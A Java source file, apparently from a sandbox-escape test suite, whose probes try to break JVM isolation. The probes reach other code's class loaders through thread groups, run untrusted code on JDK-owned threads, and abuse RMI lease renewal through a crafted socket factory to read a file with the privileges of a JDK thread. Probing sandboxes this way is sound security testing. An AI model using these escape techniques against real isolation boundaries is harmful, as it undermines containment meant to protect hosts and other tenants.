// Thread groups that are no function's lead to the threads of all, whose context loaders lead to the classes of all; and code that shows nobody is the host's there.
package hostile.escape;

import static hostile.escape.Escape.attempt;

import com.google.gson.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.io.Serializable;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.RMIClientSocketFactory;
import java.util.HashSet;
import java.util.Set;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.Executors;
import java.util.concurrent.FutureTask;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;

final class Groups {
    private static final int THREADS_MAX = 10_000;
    private static final int RENEWS_WITHIN_MILLIS = 1_000;
    private static final int CLEANS_WITHIN_MILLIS = 300;
    private static byte[] garbage;

    private Groups() {}

    static void all(JsonObject result, String path) {
        attempt(result, "aboveVirtual", () -> loaders(virtual().getParent()));
        attempt(result, "inVirtual", () -> virtual().activeGroupCount() + " groups");
        attempt(result, "slowed", () -> {
            virtual().setMaxPriority(Thread.MIN_PRIORITY);
            return "set";
        });
        attempt(result, "orphanInVirtual", () -> inGroup(virtual(), path));
        attempt(result, "handler", () -> {
            Thread.UncaughtExceptionHandler handler = Thread.currentThread().getUncaughtExceptionHandler();
            return handler == Thread.currentThread().getThreadGroup() ? null : loaders((ThreadGroup) handler);
        });
        attempt(result, "renewer", () -> renewer(path));
        attempt(result, "cleaner", Groups::cleaner);
        attempt(result, "idleSocket", Sockets::kept);
    }

    /** A thread whose interrupt tells on which thread it was called. */
    private static final class Told extends Thread {
        private final BlockingQueue<String> by;

        Told(Runnable work, BlockingQueue<String> by) {
            super(work);
            this.by = by;
        }

        @Override
        public void interrupt() {
            by.add(Thread.currentThread().getName());
        }
    }

    /** JDK 21 and later end an executor that nobody has any more: on the thread that cleans up for all. */
    private static Object cleaner() throws Exception {
        if (Runtime.version().feature() < 21) return null;
        BlockingQueue<String> by = new LinkedBlockingQueue<>();
        Executors.newSingleThreadExecutor(work -> new Told(work, by)).submit(() -> {}).get();
        for (int i = 0; i < CLEANS_WITHIN_MILLIS / 2; i++) {
            garbage = new byte[1 << 20];
            String name = by.poll(2, TimeUnit.MILLISECONDS);
            if (name != null) return name;
        }
        return null;
    }

    /** Of JDK 21 and later. */
    private static ThreadGroup virtual() throws ReflectiveOperationException {
        Object builder = Thread.class.getMethod("ofVirtual").invoke(null);
        Runnable nothing = () -> {};
        return ((Thread) Class.forName("java.lang.Thread$Builder").getMethod("unstarted", Runnable.class).invoke(builder, nothing)).getThreadGroup();
    }

    /** The loaders of others that the threads in a group lead to. */
    private static Object loaders(ThreadGroup group) {
        if (group == null) return null;
        Thread[] all = new Thread[THREADS_MAX];
        Set<ClassLoader> found = new HashSet<>();
        for (int i = group.enumerate(all, true) - 1; i >= 0; i--) {
            ClassLoader loader = all[i].getContextClassLoader();
            if (loader != null && loader != Groups.class.getClassLoader()) found.add(loader);
        }
        return found.size() + " loaders of others";
    }

    private static Object inGroup(ThreadGroup group, String path) throws Exception {
        Class<?> reader = new Strangers.Orphan().loadClass("hostile.escape.Strangers$Reader");
        @SuppressWarnings("unchecked")
        FutureTask<Object> task = new FutureTask<>((java.util.concurrent.Callable<Object>) reader.getConstructor(String.class).newInstance(path));
        Thread thread = new Thread(group, task);
        thread.setContextClassLoader(null);
        thread.start();
        return task.get();
    }

    /** Lives in an orphan's loader. The thread by which RMI renews what it holds asks it for a socket, and that thread is in the JDK's group. */
    public static final class Renewed implements RMIClientSocketFactory, Serializable {
        private static final long serialVersionUID = 1;
        public static final BlockingQueue<String> GOT = new LinkedBlockingQueue<>();
        private final String path;

        public Renewed(String path) {
            this.path = path;
        }

        @Override
        public Socket createSocket(String host, int port) throws IOException {
            String where = Thread.currentThread().getName() + ": ";
            if (where.contains("Renew")) {
                GOT.add(where + Files.readString(Path.of(path)).length() + " characters");
            }
            throw new IOException("nobody");
        }
    }

    private static Object renewer(String path) throws Exception {
        Class<?> factory = new Strangers.Orphan().loadClass("hostile.escape.Groups$Renewed");
        Object sockets = factory.getConstructor(String.class).newInstance(path);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(LocateRegistry.getRegistry("192.0.2.1", 1099, (RMIClientSocketFactory) sockets));
        }
        // To read such a stub is to hold what it stands for.
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray())) {
            @Override
            protected Class<?> resolveClass(ObjectStreamClass described) throws IOException, ClassNotFoundException {
                return described.getName().equals(factory.getName()) ? factory : super.resolveClass(described);
            }
        }) {
            in.readObject();
        }
        return ((BlockingQueue<?>) factory.getField("GOT").get(null)).poll(RENEWS_WITHIN_MILLIS, TimeUnit.MILLISECONDS);
    }
}
